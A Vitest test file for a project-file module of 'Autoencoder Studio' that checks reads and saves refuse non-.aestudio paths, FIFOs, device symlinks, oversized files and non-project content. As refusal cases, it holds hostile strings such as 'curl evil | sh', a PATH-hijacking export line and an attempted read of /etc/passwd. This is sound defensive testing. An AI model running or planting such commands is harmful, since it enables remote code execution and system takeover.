/**
 * What `project.read` / `project.write` (Electron and browser mode alike) may
 * touch: `.aestudio` regular files within the size cap, and a save never
 * replaces a file that is not an Autoencoder Studio project. Real files in
 * temp folders; FIFOs from `mkfifo`.
 */
import { execFileSync } from 'node:child_process';
import { lstatSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, symlinkSync, truncateSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { serializeProject } from '../../src-shared/project/project-file';
import { loadTemplate } from '../../tests/helpers/templates';
import { ProjectFileError, RecoveryFile, readProjectText, writeProjectText } from './project-files';

const posix = process.platform !== 'win32';
const PROJECT = serializeProject(loadTemplate('vanilla.aestudio'));
const CHANGED = serializeProject({ ...loadTemplate('vanilla.aestudio'), name: 'Changed' });

function folder(): string {
  return mkdtempSync(join(tmpdir(), 'aes-project-'));
}

async function refusal(p: Promise<unknown>): Promise<string> {
  const e: unknown = await p.then(
    () => new Error('accepted'),
    (err: unknown) => err,
  );
  expect(e).toBeInstanceOf(ProjectFileError);
  return (e as Error).message;
}

describe('project.read', () => {
  it('reads a .aestudio project', async () => {
    const file = join(folder(), 'p.aestudio');
    writeFileSync(file, PROJECT);
    expect(await readProjectText(file)).toBe(PROJECT);
  });

  it.skipIf(!posix)('refuses /etc/passwd: not a .aestudio file, and nothing of it is returned', async () => {
    const message = await refusal(readProjectText('/etc/passwd'));
    expect(message).toBe('/etc/passwd is not a project file: only .aestudio files can be opened as projects. Choose a file whose name ends in .aestudio.');
    expect(message).not.toContain('root:');
  });

  it.skipIf(!posix)('refuses a FIFO named .aestudio at once (a plain read would wait forever for a writer)', async () => {
    const fifo = join(folder(), 'pipe.aestudio');
    execFileSync('mkfifo', [fifo]);
    expect(await refusal(readProjectText(fifo))).toMatch(/^.*pipe\.aestudio is a named pipe \(FIFO\), not a project file\. Choose a project file \(a regular file\)/);
  });

  it.skipIf(!posix)('refuses /dev/zero reached through a .aestudio symlink without reading it, and /dev/zero itself by its name', async () => {
    const link = join(folder(), 'zero.aestudio');
    symlinkSync('/dev/zero', link);
    expect(await refusal(readProjectText(link))).toMatch(/zero\.aestudio is a character device, not a project file/);
    expect(await refusal(readProjectText('/dev/zero'))).toMatch(/^\/dev\/zero is not a project file: only \.aestudio files/);
  });

  it('refuses a folder and a file over the size cap (a sparse 1 GB file is never read)', async () => {
    const dir = folder();
    mkdirSync(join(dir, 'dir.aestudio'));
    expect(await refusal(readProjectText(join(dir, 'dir.aestudio')))).toMatch(/dir\.aestudio is a folder, not a project file\. Choose the file itself\./);
    const big = join(dir, 'big.aestudio');
    writeFileSync(big, '');
    truncateSync(big, 1024 ** 3);
    expect(await refusal(readProjectText(big))).toMatch(/big\.aestudio is 1\.1 GB, more than the 17 MB a project file may be\. It is probably not a project file\./);
  });

  it('a missing file: says so, with the path', async () => {
    const file = join(folder(), 'gone.aestudio');
    expect(await refusal(readProjectText(file))).toBe(`${file} does not exist. Check the path.`);
  });
});

describe('project.write', () => {
  it('saves a new project, and saves over an existing project, an empty file and a truncated project', async () => {
    const dir = folder();
    const file = join(dir, 'new', 'p.aestudio');
    await writeProjectText(file, PROJECT);
    expect(readFileSync(file, 'utf8')).toBe(PROJECT);
    await writeProjectText(file, CHANGED);
    expect(readFileSync(file, 'utf8')).toBe(CHANGED);
    for (const old of ['', PROJECT.slice(0, 200)]) {
      writeFileSync(file, old);
      await writeProjectText(file, PROJECT);
      expect(readFileSync(file, 'utf8')).toBe(PROJECT);
    }
  });

  it('refuses to overwrite an existing .aestudio file that is not a project, and leaves it byte for byte', async () => {
    const file = join(folder(), 'notes.aestudio');
    writeFileSync(file, 'export PATH=/evil:$PATH\n');
    expect(await refusal(writeProjectText(file, PROJECT))).toBe(`Refused to save over ${file}: it exists and is not an Autoencoder Studio project (it has no "format": "autoencoder-studio-project"). Choose another file name, or move that file away first.`);
    expect(readFileSync(file, 'utf8')).toBe('export PATH=/evil:$PATH\n');
    writeFileSync(file, '{"format": "some-other-app", "version": 1}');
    expect(await refusal(writeProjectText(file, PROJECT))).toMatch(/it exists and is not an Autoencoder Studio project/);
  });

  it('refuses a path that is not .aestudio (a shell start-up file), and text that is not a project', async () => {
    const dir = folder();
    const rc = join(dir, '.bashrc');
    writeFileSync(rc, 'echo hi\n');
    expect(await refusal(writeProjectText(rc, PROJECT))).toBe(`${rc} is not a project file: only .aestudio files can be saved as projects. Choose a file whose name ends in .aestudio.`);
    expect(readFileSync(rc, 'utf8')).toBe('echo hi\n');
    expect(await refusal(writeProjectText(join(dir, 'x.aestudio'), 'curl evil | sh'))).toMatch(/the text given is not an Autoencoder Studio project/);
    expect(readdirSync(dir)).toEqual(['.bashrc']);
  });

  it.skipIf(!posix)('refuses to save over a FIFO at once, and over a .aestudio symlink that leads to a non-project file', async () => {
    const dir = folder();
    const fifo = join(dir, 'pipe.aestudio');
    execFileSync('mkfifo', [fifo]);
    expect(await refusal(writeProjectText(fifo, PROJECT))).toMatch(/^Refused to save .*pipe\.aestudio: .* is a named pipe \(FIFO\)/);
    expect(lstatSync(fifo).isFIFO()).toBe(true);
    writeFileSync(join(dir, 'profile'), 'umask 022\n');
    symlinkSync('profile', join(dir, 'link.aestudio'));
    expect(await refusal(writeProjectText(join(dir, 'link.aestudio'), PROJECT))).toMatch(/it exists and is not an Autoencoder Studio project/);
    expect(readFileSync(join(dir, 'profile'), 'utf8')).toBe('umask 022\n');
  });

  it.skipIf(!posix)('saving a symlinked project writes the file it links to and keeps the link', async () => {
    const dir = folder();
    writeFileSync(join(dir, 'real.aestudio'), PROJECT);
    symlinkSync('real.aestudio', join(dir, 'link.aestudio'));
    await writeProjectText(join(dir, 'link.aestudio'), CHANGED);
    expect(lstatSync(join(dir, 'link.aestudio')).isSymbolicLink()).toBe(true);
    expect(readFileSync(join(dir, 'real.aestudio'), 'utf8')).toBe(CHANGED);
  });
});

describe('the recovery file', () => {
  it('applies writes, clears and reads in the order asked: a clear sent right after a write wins, and a read after both sees it', async () => {
    const file = new RecoveryFile(mkdtempSync(join(tmpdir(), 'aes-recovery-')));
    const kept = { text: serializeProject(loadTemplate('vanilla.aestudio')), filePath: null, savedAt: new Date().toISOString() };
    for (let i = 0; i < 5; i++) {
      const [, , read] = await Promise.all([file.write(kept), file.write(null), file.read()]); // as a leaving page and the next page send them
      expect(read).toBeNull();
    }
    await file.write(kept);
    await expect(file.read()).resolves.toEqual(kept);
  });
});
